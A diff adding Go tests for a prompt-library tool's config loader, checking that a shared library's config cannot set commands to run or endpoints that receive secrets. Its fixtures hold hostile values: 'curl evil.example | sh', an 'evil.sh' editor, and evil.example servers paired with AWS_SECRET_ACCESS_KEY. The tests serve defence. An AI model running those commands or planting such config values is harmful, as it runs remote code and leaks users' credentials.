@@ -0,0 +1,118 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestCommandSettingsOnlyFromUserConfig(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	library := t.TempDir()
+
+	// A library pushed by someone else names programs to run
+	data := []byte(`{"cli": {"editor": "sh .pocket-prompt/evil.sh", "format": "json"}, "summarize": {"command": "curl evil.example | sh"}}`)
+	path := filepath.Join(library, ".pocket-prompt", "config.json")
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatalf("MkdirAll: %v", err)
+	}
+	if err := os.WriteFile(path, data, 0644); err != nil {
+		t.Fatalf("WriteFile: %v", err)
+	}
+	warnings, err := CheckConfig(data)
+	if err != nil || len(warnings) != 2 || !strings.Contains(warnings[0], "cli.editor is ignored") {
+		t.Errorf("CheckConfig = %q, %v; want both commands reported as ignored", warnings, err)
+	}
+
+	cfg, err := LoadConfig(library)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if cfg.CLI.Editor != "" || cfg.Summarize.Command != "" || cfg.CLI.Format != "json" {
+		t.Fatalf("cli = %+v, summarize = %+v; want the library's commands ignored and other settings kept", cfg.CLI, cfg.Summarize)
+	}
+
+	// Commands set by the user are kept outside the library
+	if err := cfg.Set("cli.editor", "vim"); err != nil {
+		t.Fatalf("Set: %v", err)
+	}
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Save: %v", err)
+	}
+	saved, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("ReadFile: %v", err)
+	}
+	if strings.Contains(string(saved), "vim") || strings.Contains(string(saved), "evil") {
+		t.Errorf("library config holds commands:\n%s", saved)
+	}
+	userPath, err := UserConfigPath()
+	if err != nil || cfg.UserPath() != userPath || !strings.HasPrefix(userPath, home) {
+		t.Fatalf("UserPath = %q, UserConfigPath = %q, %v", cfg.UserPath(), userPath, err)
+	}
+	if user, err := os.ReadFile(userPath); err != nil || !strings.Contains(string(user), `"editor": "vim"`) {
+		t.Errorf("user config = %s, %v", user, err)
+	}
+
+	cfg, err = LoadConfig(library)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if cfg.CLI.EditorCommand() != "vim" || cfg.CLI.Format != "json" {
+		t.Errorf("cli after reload = %+v", cfg.CLI)
+	}
+}
+
+func TestEndpointSettingsOnlyFromUserConfig(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	library := t.TempDir()
+
+	// A library pushed by someone else sends a member's secret to their host
+	data := []byte(`{"remote": {"adapter": "rest", "url": "https://evil.example", "secret_env": "AWS_SECRET_ACCESS_KEY", "tag": "shared"},
+		"email": {"server": "evil.example:993", "password_env": "AWS_SECRET_ACCESS_KEY", "mailbox": "Prompts"},
+		"digest": {"smtp": "evil.example:587", "password_env": "AWS_SECRET_ACCESS_KEY", "from": "team@example.com"}}`)
+	path := filepath.Join(library, ".pocket-prompt", "config.json")
+	if err := os.MkdirAll(filepath.Dir(path), 0755); err != nil {
+		t.Fatalf("MkdirAll: %v", err)
+	}
+	if err := os.WriteFile(path, data, 0644); err != nil {
+		t.Fatalf("WriteFile: %v", err)
+	}
+	warnings, err := CheckConfig(data)
+	if err != nil || len(warnings) != 6 || !strings.Contains(warnings[0], "remote.url is ignored, since servers sent your secrets") {
+		t.Errorf("CheckConfig = %q, %v; want the endpoints reported as ignored", warnings, err)
+	}
+	cfg, err := LoadConfig(library)
+	if err != nil {
+		t.Fatalf("LoadConfig: %v", err)
+	}
+	if cfg.Remote.URL != "" || cfg.Remote.SecretEnv != "" || cfg.Remote.Tag != "shared" {
+		t.Fatalf("remote = %+v; want the library's endpoint ignored and other settings kept", cfg.Remote)
+	}
+	if cfg.Email.Enabled() || cfg.Email.PasswordVar() != DefaultEmailPasswordEnv || cfg.Email.Mailbox != "Prompts" {
+		t.Fatalf("email = %+v; want the library's mail server ignored and other settings kept", cfg.Email)
+	}
+	if cfg.Digest.Emailed() || cfg.Digest.PasswordVar() != DefaultDigestPasswordEnv || cfg.Digest.From != "team@example.com" {
+		t.Fatalf("digest = %+v; want the library's mail server ignored and other settings kept", cfg.Digest)
+	}
+
+	// The user's own endpoint is kept outside the library
+	if err := cfg.Set("remote.url", "https://registry.example"); err != nil {
+		t.Fatalf("Set: %v", err)
+	}
+	if err := cfg.Save(); err != nil {
+		t.Fatalf("Save: %v", err)
+	}
+	if saved, _ := os.ReadFile(path); strings.Contains(string(saved), "registry.example") {
+		t.Errorf("library config holds the endpoint:\n%s", saved)
+	}
+	cfg, err = LoadConfig(library)
+	if err != nil || cfg.Remote.URL != "https://registry.example" {
+		t.Errorf("remote after reload = %+v, %v", cfg.Remote, err)
+	}
+}